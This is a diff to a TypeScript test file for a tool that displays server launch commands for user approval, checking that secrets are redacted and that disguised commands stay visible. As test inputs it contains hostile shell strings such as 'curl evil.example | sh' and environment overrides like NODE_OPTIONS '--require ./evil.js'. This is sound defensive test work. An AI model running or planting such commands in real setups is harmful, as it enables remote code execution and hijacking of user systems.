@@ -1,6 +1,7 @@
+import { growthOf, linearGrowth } from '@haft-tooling/growth';
 import { describe, expect, it } from 'vitest';
 import { readServers } from '../index.ts';
-import { addressOf } from './describe-server-command.ts';
+import { addressOf, describeCommand } from './describe-server-command.ts';
 import { expandReferences } from './expand-references.ts';
 
 describe('readServers', () => {
@@ -147,5 +148,54 @@ describe('the displayed address', () => {
   it('is the whole quoted command without secrets and hidden characters', () => {
     const line = addressOf({ command: 'sh', args: ['-c', 'curl x\n| sh\u202e', '--token=hunter2hunter2', '${KEY}'] });
     expect(line).toBe('sh -c "curl x\\n| sh" --token=[redacted] ${KEY}');
+  });
+});
+
+describe('the command that a user approves', () => {
+  const lineOf = (command: string, ...args: readonly string[]): string => describeCommand('a', { command, args }).line;
+
+  it.each([
+    ['password=$(curl https://evil.example/x|sh) npx server'],
+    ['x Authorization: curl evil.example | sh; more'],
+    ['true password="a; curl evil.example | sh"'],
+    ['/*-----BEGIN PRIVATE KEY-----*/ run() /*-----END PRIVATE KEY-----*/'],
+    ['password= /tmp/evil'],
+    ['x Bearer /tmp/evil-program'],
+  ])('shows a command that looks like a secret: %s', (script) => {
+    expect(lineOf('sh', '-c', script)).toBe(`sh -c ${JSON.stringify(script)}`);
+    expect(addressOf({ command: 'sh', args: ['-c', script] })).toContain('[redacted]');
+  });
+
+  it('hides a plain secret, and shows hidden characters as their codes', () => {
+    expect(lineOf('npx', '-y', 'a-server', '--token=hunter2hunter2', '--key', '${KEY}')).toBe(
+      'npx -y a-server --token=[redacted] --key ${KEY}',
+    );
+    expect(lineOf('n\u200bpx', 'a\u202eb\u00a0c', 'é\n')).toBe('"n\\u{200b}px" "a\\u{202e}b\\u{a0}c" "é\\n"');
+  });
+
+  it('shows values of variables that can change which code runs, and hides others', () => {
+    const env = {
+      NODE_OPTIONS: '--require ./evil.js',
+      npm_config_registry: 'https://user:hunter2hunter2@evil.example/',
+      BASH_ENV: 'evil',
+      CONFIG: '/etc/a b',
+      TOKEN: 'hunter2hunter2',
+      BASE64: 'aGVsbG8gd29ybGQhIGhlbGxv/Cw+bw==',
+      MODE: '${MODE:-quiet}',
+    };
+    expect(describeCommand('a', { command: 'node', env }).env).toEqual([
+      'NODE_OPTIONS="--require ./evil.js"',
+      'npm_config_registry=https://user:[redacted]@evil.example/',
+      'BASH_ENV=evil',
+      'CONFIG="/etc/a b"',
+      'TOKEN=…',
+      'BASE64=…',
+      'MODE=${MODE:-quiet}',
+    ]);
+  });
+
+  it('takes linear time to describe', async () => {
+    const makeArgument = (length: number): string => 'token=a\u200b '.repeat(length);
+    expect(await growthOf(makeArgument, (text) => void lineOf('sh', text), 2_000)).toBeLessThan(linearGrowth);
   });
 });
